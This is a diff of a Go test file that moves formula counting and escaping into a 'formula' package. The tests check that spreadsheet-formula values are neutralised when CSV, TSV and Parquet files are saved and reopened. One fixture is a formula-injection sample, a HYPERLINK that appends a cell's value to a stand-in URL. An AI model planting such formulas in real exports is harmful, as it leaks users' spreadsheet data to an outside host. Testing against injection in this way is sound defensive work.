@@ -11,6 +11,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/go-siamese/lab/data"
+	"github.com/go-siamese/lab/data/formula"
 )
 
 // TestFormulas: what a spreadsheet would run is counted, escaped, and read back as it was by the same option.
@@ -19,12 +20,12 @@ func TestFormulas(t *testing.T) {
 		Blocks: []data.Block{{Name: "features", End: 2}},
 		IDs:    []string{`=HYPERLINK("http://x?"&A1)`, "-5", "'+1+1"},
 		Labels: []string{"@SUM(1)", "+4.5e-3", "plain"}, Domains: []string{"-x", "'quoted'", "＝1"}}
-	if got := Formulas(f); got != 5 {
+	if got := formula.Count(f); got != 5 {
 		t.Errorf("%d formulas, want 5", got)
 	}
 	for _, ending := range []string{".csv", ".tsv.gz"} {
 		path := filepath.Join(t.TempDir(), "f"+ending)
-		if err := Save(path, EscapeFormulas(f)); err != nil {
+		if err := Save(path, formula.EscapeFrame(f)); err != nil {
 			t.Fatal(err)
 		}
 		got, _, err := Open(t.Context(), path, Options{EscapedFormulas: true})
@@ -36,7 +37,7 @@ func TestFormulas(t *testing.T) {
 		}
 		raw, _, err := Open(t.Context(), path, Options{})
 		if err != nil || raw.IDs[0] != "'"+f.IDs[0] || raw.IDs[1] != "-5" || raw.IDs[2] != "''+1+1" ||
-			Formulas(raw) != 0 {
+			formula.Count(raw) != 0 {
 			t.Errorf("%q %v", raw.IDs, err)
 		}
 	}
@@ -61,7 +62,7 @@ func TestFormulasInPairs(t *testing.T) {
 	pairs := Pairs{Left: []int32{0, 1, 3}, Right: []int32{1, 2, 4}, Label: []float32{1, 0, 0.25}}
 	for _, ending := range []string{".csv", ".tsv", ".parquet"} {
 		path := filepath.Join(t.TempDir(), "pairs"+ending)
-		if err := SavePairs(path, EscapeFormulas(f), pairs); err != nil {
+		if err := SavePairs(path, formula.EscapeFrame(f), pairs); err != nil {
 			t.Fatal(err)
 		}
 		if ending == ".csv" {
